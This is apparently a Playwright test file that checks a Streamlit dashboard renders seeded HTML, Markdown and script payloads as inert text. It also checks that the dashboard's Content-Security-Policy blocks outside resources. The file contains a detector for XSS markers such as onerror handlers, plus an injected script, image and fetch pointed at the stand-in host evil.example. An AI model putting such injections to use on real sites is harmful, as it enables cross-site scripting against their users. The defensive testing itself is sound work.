"""What a sheet says is text, on every page of the running board: in a real browser, as an administrator sees it."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.browser.conftest import PATIENCE, keep
from tests.security.conftest import OTHER, Raided
from tests.security.reach import ROOT
from tests.security.wire import signed_in

pytestmark = pytest.mark.browser


DAY = "2022-08-12"
ASLEEP = "[data-testid=stApp][data-test-script-state=notRunning]"
# What of the trap would have come to life.
ALIVE = """() => {
    const of = (what, test) => [...document.querySelectorAll(what)].filter(one => test(one.textContent.trim())).length;
    return {
        script: window.trapped ? 1 : 0,
        elsewhere: [...document.querySelectorAll('[src], [href]')].filter(
            one => new URL(one.src || one.href, location.href).host === 'evil.example').length,
        handlers: document.querySelectorAll('[onerror], [onmouseover]').length,
        bold: of('strong, b, em', text => text === '粗体'),
        code: of('code', text => text === '码'),
        formula: document.querySelectorAll('.katex').length,
        icon: of('[data-testid=stIconMaterial]', text => text === 'bug_report'),
        colour: of('.stMarkdownColoredText, .stMarkdownBadge', text => ['红字', '章'].includes(text)),
    };
}"""
PLACES: dict[str, tuple[str, dict[str, str]]] = {
    "the briefing": ("briefing", {}),
    "the wall": ("briefing", {"mode": "screen"}),
    "who is called up": ("callups", {"list": "called"}),
    "a day's differences": ("dispatch", {"picked": OTHER}),
    "the matrix": ("workstreams", {"tab": "matrix"}),
    "an indicator": ("workstreams", {"community": OTHER, "workstream": "civil_affairs", "indicator": "CA-01"}),
    "a record": (
        "workstreams",
        {"community": OTHER, "workstream": "civil_affairs", "indicator": "CA-01", "record": "2022-07/CA-01"},
    ),
    "evidence": ("workstreams", {"tab": "checklist", "community": OTHER, "item": "1.1", "record": "2022/1.1"}),
    "plans of the week": ("workstreams", {"tab": "plans"}),
    "a community": ("community", {"community": OTHER}),
    "the ranking": ("rankings", {}),
    "matters": ("actions", {}),
    "one matter": ("actions", {"item": "DB-1"}),
    "the history": ("uploads", {"part": "history", "submission": "4"}),
    "the register": ("administration", {"section": "register"}),
    "the audit": ("administration", {"section": "audit"}),
}


@pytest.fixture(scope="module")
def window(raided: Raided, chromium: Browser) -> Iterator[BrowserContext]:
    """An administrator's browser; nothing of it reaches another house."""
    context = chromium.new_context(viewport={"width": 1920, "height": 1080}, locale="zh-CN")
    carried = [{"name": name, "value": value, "url": raided.address} for name, value in signed_in(raided.admin).items()]
    context.add_cookies(carried)  # type: ignore[arg-type]
    keep(context, raided.address)
    yield context
    context.close()


def _open(context: BrowserContext, raided: Raided, page: str, query: dict[str, str]) -> tuple[Page, list[str]]:
    shown, elsewhere = context.new_page(), list[str]()
    shown.set_default_timeout(20_000)
    shown.on("request", lambda request: elsewhere.append(request.url) if "//evil.example" in request.url[:30] else None)
    shown.goto(f"{raided.address}/{page}?{urlencode({'day': DAY, **query})}")
    shown.wait_for_selector(ASLEEP)
    shown.wait_for_function("document.body.innerText.includes('数据截至') || document.querySelector('.b')")
    return shown, elsewhere


@pytest.mark.parametrize("place", PLACES)
def test_a_cell_stays_a_text(raided: Raided, window: BrowserContext, place: str) -> None:
    """Tried: HTML with scripts and pictures, links, Markdown, formulas, icons and colours in names, notes, tasks,
    matters, sites and file names. Held: no script ran, nothing was asked of another house, no element came of it."""
    page, elsewhere = _open(window, raided, *PLACES[place])
    try:
        alive: dict[str, Any] = page.evaluate(ALIVE)
        assert {name: count for name, count in alive.items() if count} == {}
        assert elsewhere == []
        if place not in ("the audit", "the history", "the register"):  # there it stands in a grid
            text = page.evaluate("document.body.innerText")
            charts = page.locator("canvas, svg").count()
            assert "**" in text or "evil.example" in text or charts, "the trap is not on this page at all"
    finally:
        page.close()


def test_a_tooltip_stays_a_text(raided: Raided, window: BrowserContext) -> None:
    """Tried: the same in the name of a community that a chart tells when one points at it. Held: text."""
    page, elsewhere = _open(window, raided, "rankings", {})
    chart = page.locator("[data-testid=stVegaLiteChart]").first
    chart.wait_for()
    box = chart.bounding_box()
    assert box is not None
    found = False
    for row in range(12):
        page.mouse.move(box["x"] + box["width"] * 0.35, box["y"] + box["height"] * (row + 0.5) / 12)
        page.wait_for_timeout(60)
        tip = page.locator("#vg-tooltip-element.visible")
        if tip.count() and "<img" in tip.inner_text():
            found = True
            assert tip.locator("img, strong, script, a").count() == 0
    assert found, "no tooltip told the name"
    assert page.evaluate(ALIVE)["script"] == 0 and elsewhere == []
    page.close()


def test_the_proxys_policy_fits(raided: Raided, window: BrowserContext) -> None:
    """Tried: the board under the Content-Security-Policy of deploy/nginx.conf, and a script, a picture and a connection
    from elsewhere in it. Held: pages and charts are drawn without a violation; what comes from elsewhere is stopped."""
    told = (ROOT / "deploy" / "nginx.conf").read_text(encoding="utf-8")
    (policy,) = re.findall(r'Content-Security-Policy "([^"]+)"', told)

    told_in_the_page = re.sub(r"frame-ancestors [^;]+; ", "", policy)  # that one counts in a header alone
    put = """policy => new MutationObserver((_, looking) => {
        if (!document.head) return;
        looking.disconnect();
        document.head.prepend(Object.assign(document.createElement('meta'),
            {httpEquiv: 'Content-Security-Policy', content: policy}));
    }).observe(document, {childList: true, subtree: true})"""

    def stopped(
        line: str,
    ) -> bool:  # the tab's sign is Streamlit's, from a server of Google
        return "Content Security Policy" in line and "fonts.gstatic.com" not in line

    page = window.new_page()
    page.set_default_timeout(PATIENCE)
    violated = list[str]()
    page.on("console", lambda line: violated.append(line.text) if stopped(line.text) else None)
    page.add_init_script(f"({put})({json.dumps(told_in_the_page)})")
    for slug in ("rankings", "workstreams", "uploads"):
        page.goto(f"{raided.address}/{slug}?day={DAY}")
        page.wait_for_selector(ASLEEP)
        page.wait_for_function("document.body.innerText.includes('数据截至')")
    page.goto(f"{raided.address}/rankings?day={DAY}")
    page.locator("[data-testid=stVegaLiteChart] canvas, [data-testid=stVegaLiteChart] svg").first.wait_for()
    assert violated == []
    page.evaluate(
        """() => { const script = document.createElement('script'); script.src = 'http://evil.example/x.js';
            document.body.append(script); new Image().src = 'http://evil.example/i.png';
            return fetch('http://evil.example/').catch(() => 0); }"""
    )
    page.wait_for_timeout(300)
    assert len(violated) >= 3
    page.close()
